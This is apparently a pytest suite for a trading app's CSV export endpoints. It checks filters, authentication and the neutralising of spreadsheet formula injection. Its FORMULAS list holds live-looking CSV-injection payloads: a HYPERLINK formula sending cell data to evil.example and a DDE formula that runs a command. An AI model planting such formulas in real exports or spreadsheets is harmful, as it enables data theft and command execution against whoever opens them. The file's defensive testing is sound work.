"""GET /trades.csv and /history.csv: the JSON forms' rows and filters, as streamed CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient

from tests.images import image_bytes
from trade_analysis.domain import Side


def rows(client: TestClient, path: str, **params: object) -> list[dict[str, str]]:
    response = client.get(path, params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.fixture
def traded(client: TestClient) -> None:
    signals = [
        ("AAPL", "100.10", "up"),
        ("TSLA", "250", "up"),
        ("AAPL", "103.35", "down"),
        ("TSLA", "249.5", "down"),
        ("AAPL", "99", "up"),
    ]
    for index, (ticker, price, trend) in enumerate(signals):
        response = client.post(
            "/ingest",
            files={"file": ("c.png", image_bytes(seed=index), "image/png")},
            data={"ticker": ticker, "price": price, "trend": trend, "bot": ticker.lower()},
        )
        assert response.status_code == 200
    client.post("/ingest", data={"ticker": "MSFT", "price": "1", "trend": "none", "name": 'a "b"'})


@pytest.mark.usefixtures("traded")
def test_trades_csv_has_every_trade_as_trades_lists_them(client: TestClient) -> None:
    listed = client.get("/api/v1/trades").json()["all_trades"]
    exported = rows(client, "/api/v1/trades.csv")
    assert [int(row["id"]) for row in exported] == [trade["id"] for trade in listed]
    assert [row["side"] for row in exported] == ["buy", "buy", "sell", "sell", "buy"]
    sells = [row for row in exported if row["side"] == "sell"]
    assert [Decimal(row["profit"]) for row in sells] == [Decimal("3.25"), Decimal("-0.5")]
    assert [row["price"] for row in exported][:3] == ["100.1", "250", "103.35"]
    assert all(row["ts"].endswith("Z") for row in exported)
    newest = rows(client, "/trades.csv", limit=2)
    assert [row["id"] for row in newest] == [row["id"] for row in exported[-2:]]


@pytest.mark.usefixtures("traded")
@pytest.mark.parametrize(
    "params",
    [{}, {"ticker": "aapl"}, {"trend": "up"}, {"limit": 3, "offset": 2}, {"days": 0.001}],
)
def test_history_csv_has_the_rows_history_has_with_the_same_filters(
    client: TestClient, params: dict
) -> None:
    listed = client.get("/api/v1/history", params={"limit": 1000, **params}).json()
    exported = rows(client, "/api/v1/history.csv", **params)
    assert [int(row["id"]) for row in exported] == [record["id"] for record in listed]
    for row, record in zip(exported, listed, strict=True):
        assert row["kind"] == record["kind"] and row["ticker"] == (record["ticker"] or "")
        assert row["image_url"] == (record["image_url"] or "")
        assert (row["name"] or None) == record["name"]


def test_history_csv_refuses_what_history_refuses(client: TestClient) -> None:
    response = client.get(
        "/history.csv",
        params={"start_ts": "2026-03-02T00:00:00Z", "end_ts": "2026-03-01T00:00:00Z"},
    )
    assert response.status_code == 422 and "end_ts" in response.json()["detail"]
    assert client.get("/trades.csv", params={"limit": 0}).status_code == 422


def test_exports_need_the_key(anonymous: TestClient) -> None:
    assert anonymous.get("/api/v1/trades.csv").status_code == 401
    assert anonymous.get("/api/v1/history.csv").status_code == 401


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"open")', "=cmd|' /C calc'!A0", "@SUM(1)"]


@pytest.mark.parametrize("path", ["/history.csv", "/api/v1/history.csv"])
def test_history_csv_text_a_spreadsheet_would_run_is_neutralised(
    client: TestClient, path: str
) -> None:
    for name in [*FORMULAS, "+1", "-1+2", "\tTab", "plain = text"]:
        response = client.post(
            "/ingest", data={"ticker": "AAPL", "price": "10", "trend": "none", "name": name}
        )
        assert response.status_code == 200, response.text
    names = {row["name"] for row in rows(client, path)}
    expected = {"'" + f for f in FORMULAS} | {"'+1", "'-1+2", "'\tTab", "plain = text"}
    assert names == expected


@pytest.mark.parametrize("path", ["/trades.csv", "/api/v1/trades.csv"])
def test_trades_csv_neutralises_a_stored_bot_name_and_keeps_losses_as_numbers(
    client: TestClient, path: str
) -> None:
    ledger = client.app.state.services.ledger  # type: ignore[attr-defined]
    now = datetime.now(UTC)
    # A ledger from before bot names were checked on every route.
    for side, price in ((Side.BUY, "10"), (Side.SELL, "7")):
        ledger.manual_trade(ticker="AAPL", side=side, price=Decimal(price), at=now, bot=FORMULAS[0])
    exported = rows(client, path)
    assert [row["bot"] for row in exported] == ["'" + FORMULAS[0]] * 2
    assert [row["profit"] for row in exported] == ["", "-3"]
    assert [row["price"] for row in exported] == ["10", "7"]
